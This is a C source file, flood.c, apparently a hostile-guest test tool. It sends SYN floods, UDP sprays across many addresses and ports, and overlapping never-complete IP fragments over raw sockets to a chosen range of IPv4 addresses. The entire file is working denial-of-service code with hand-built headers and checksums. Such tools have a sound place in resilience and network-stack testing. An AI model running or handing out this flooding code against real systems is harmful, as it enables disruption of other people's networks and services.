/*
 * A guest that means harm: packets that only cost the other side something.
 *
 *	flood syn ADDR N COUNT	SYNs from random ports
 *	flood udp ADDR N COUNT	datagrams, each to another address and port
 *	flood frag ADDR N COUNT	fragments of datagrams that are never whole
 *
 * Destinations are the N addresses from ADDR on.  Headers are made here, and
 * the sender's kernel knows nothing of what it sends: an answer to a SYN would
 * be answered with RST.  The numbers are the same in each run.
 */

#include <sys/socket.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <err.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define PORT	    81
#define UDP_SENDERS 8
#define FRAG_BYTES  64

struct flood {
	uint32_t src, base, spread; /* addresses; host order */
	uint32_t random;
	int fd; /* owned: takes whole IPv4 packets */
};

static uint32_t
flood_random(struct flood *f)
{
	f->random ^= f->random << 13;
	f->random ^= f->random >> 17;
	f->random ^= f->random << 5;
	return f->random;
}

static struct sockaddr_in
flood_dst(const struct flood *f, uint32_t i, uint16_t port)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
		.sin_port = htons(port) };

	sin.sin_addr.s_addr = htonl(f->base + i % f->spread);
	return sin;
}

/* The address that this machine sends from. */
static uint32_t
own_address(const struct flood *f)
{
	struct sockaddr_in sin = flood_dst(f, 0, PORT);
	socklen_t len = sizeof(sin);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (fd == -1 || connect(fd, (struct sockaddr *)&sin, len) == -1 ||
	    getsockname(fd, (struct sockaddr *)&sin, &len) == -1)
		err(1, "no route");
	close(fd);
	return ntohl(sin.sin_addr.s_addr);
}

/* Room in the device's queue may lack for a moment; sending is retried. */
static void
send_to(int fd, const void *p, size_t len, const struct sockaddr_in *sin)
{
	while (sendto(fd, p, len, 0, (const struct sockaddr *)sin,
		   sizeof(*sin)) == -1) {
		if (errno != ENOBUFS && errno != EAGAIN)
			err(1, "send");
	}
}

static uint16_t
checksum(const void *p, size_t len, uint32_t sum)
{
	const uint8_t *b = p;
	size_t i;

	for (i = 0; i < len; i++)
		sum += (uint32_t)b[i] << (i % 2 == 0 ? 8 : 0);
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* The kernel fills in the length and the checksum of the header. */
static struct ip
ip_header(const struct flood *f, const struct sockaddr_in *dst, uint8_t proto)
{
	struct ip ip = { .ip_v = 4, .ip_hl = 5, .ip_ttl = 64, .ip_p = proto };

	ip.ip_src.s_addr = htonl(f->src);
	ip.ip_dst = dst->sin_addr;
	return ip;
}

static void
flood_syn(struct flood *f, uint32_t i)
{
	struct sockaddr_in dst = flood_dst(f, i, PORT);
	struct {
		struct ip ip;
		struct tcphdr tcp;
	} p = { .ip = ip_header(f, &dst, IPPROTO_TCP) };
	uint32_t d = ntohl(dst.sin_addr.s_addr), sum;

	p.tcp.th_sport = htons((uint16_t)(1024 + flood_random(f) % 64000));
	p.tcp.th_dport = htons(PORT);
	p.tcp.th_seq = flood_random(f);
	p.tcp.th_off = sizeof(p.tcp) / 4;
	p.tcp.th_flags = TH_SYN;
	p.tcp.th_win = htons(65535);
	sum = (f->src >> 16) + (f->src & 0xffff) + (d >> 16) + (d & 0xffff) +
	      IPPROTO_TCP + sizeof(p.tcp);
	p.tcp.th_sum = checksum(&p.tcp, sizeof(p.tcp), sum);
	send_to(f->fd, &p, sizeof(p), &dst);
}

/* Pieces at any offset, some of them over one another; the first lacks. */
static void
flood_frag(struct flood *f, uint32_t i)
{
	struct sockaddr_in dst = flood_dst(f, i, PORT);
	struct {
		struct ip ip;
		uint8_t data[FRAG_BYTES];
	} p = { .ip = ip_header(f, &dst, IPPROTO_UDP) };
	uint32_t off = 1 + flood_random(f) % 8000;

	p.ip.ip_id = htons((uint16_t)(1 + i / 4));
	p.ip.ip_off = htons((uint16_t)(IP_MF | off));
	send_to(f->fd, &p, sizeof(p), &dst);
}

static int
flood_udp(struct flood *f, uint32_t count)
{
	int fd[UDP_SENDERS];
	struct sockaddr_in dst;
	uint32_t i;

	for (i = 0; i < UDP_SENDERS; i++) {
		if ((fd[i] = socket(AF_INET, SOCK_DGRAM, 0)) == -1)
			err(1, "socket");
	}
	for (i = 0; i < count; i++) {
		dst = flood_dst(f, i, (uint16_t)(1024 + i / f->spread));
		send_to(fd[i % UDP_SENDERS], &i, sizeof(i), &dst);
	}
	for (i = 0; i < UDP_SENDERS; i++)
		close(fd[i]);
	return 0;
}

static int
flood_raw(
    struct flood *f, uint32_t count, void (*one)(struct flood *, uint32_t))
{
	uint32_t i;

	if ((f->fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) == -1)
		err(1, "raw socket");
	f->src = own_address(f);
	for (i = 0; i < count; i++)
		one(f, i);
	close(f->fd);
	return 0;
}

int
main(int argc, char *argv[])
{
	struct flood f = { .random = 2463534242u };
	struct in_addr base;
	uint32_t count;

	if (argc != 5 || inet_pton(AF_INET, argv[2], &base) != 1)
		errx(2, "usage: see the head of flood.c");
	f.base = ntohl(base.s_addr);
	f.spread = (uint32_t)strtoul(argv[3], NULL, 10);
	count = (uint32_t)strtoul(argv[4], NULL, 10);
	if (f.spread == 0)
		errx(2, "no destinations");
	if (strcmp(argv[1], "syn") == 0)
		return flood_raw(&f, count, flood_syn);
	if (strcmp(argv[1], "frag") == 0)
		return flood_raw(&f, count, flood_frag);
	if (strcmp(argv[1], "udp") == 0)
		return flood_udp(&f, count);
	errx(2, "no such flood: %s", argv[1]);
}
